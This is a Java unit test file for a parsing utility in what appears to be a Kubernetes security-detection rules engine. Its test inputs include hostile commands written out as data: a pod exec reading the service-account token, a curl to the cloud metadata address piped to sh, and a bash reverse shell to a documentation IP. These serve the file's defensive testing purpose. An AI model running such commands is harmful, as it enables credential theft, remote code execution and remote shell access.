package dev.vigil.streams.rules.cel;

import org.junit.jupiter.api.Test;

import java.util.Arrays;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

class RequestUrisTest {

    @Test
    void decodesEveryValueOfAQueryParameterInOrder() {
        String uri = "/api/v1/namespaces/default/pods/web-0/exec?command=sh&command=-c&command=cat+%2Fvar%2Frun%2F"
                + "secrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken&container=web&stderr=true&stdout=true";
        assertThat(RequestUris.queryParam(uri, "command"))
                .containsExactly("sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token");
        assertThat(RequestUris.queryParam(uri, "container")).containsExactly("web");
        assertThat(RequestUris.queryParam(uri, "tty")).isEmpty();
    }

    @Test
    void toleratesUrisWithoutQueryBadEscapesAndEmptyValues() {
        assertThat(RequestUris.queryParam("/api/v1/namespaces/default/pods/web-0/exec", "command")).isEmpty();
        assertThat(RequestUris.queryParam(null, "command")).isEmpty();
        assertThat(RequestUris.queryParam("/x?command=100%&command&command=", "command"))
                .containsExactly("100%", "", "");
        assertThat(RequestUris.queryParam("/x?command=a#command=b", "command")).containsExactly("a");
    }

    @Test
    void boundsTheNumberOfValues() {
        String uri = "/x?" + String.join("&", java.util.Collections.nCopies(1000, "command=a"));
        assertThat(RequestUris.queryParam(uri, "command")).hasSize(256);
    }

    @Test
    void splitsCommandLinesIntoWordsAndFileNames() {
        assertThat(RequestUris.commandWords(List.of("/bin/sh", "-c", "curl -s http://169.254.169.254/latest|sh")))
                .containsExactly("/bin/sh", "sh", "-c", "curl", "-s", "http://169.254.169.254/latest", "latest");
        assertThat(RequestUris.commandWords(List.of("bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")))
                .contains("bash", "-i", "/dev/tcp/203.0.113.9/4444", "4444");
        assertThat(RequestUris.commandWords(Arrays.asList("tar", null, 7L, "cf", "-", "/data"))).containsExactly(
                "tar", "cf", "-", "/data", "data");
        assertThat(RequestUris.commandWords(null)).isEmpty();
    }
}
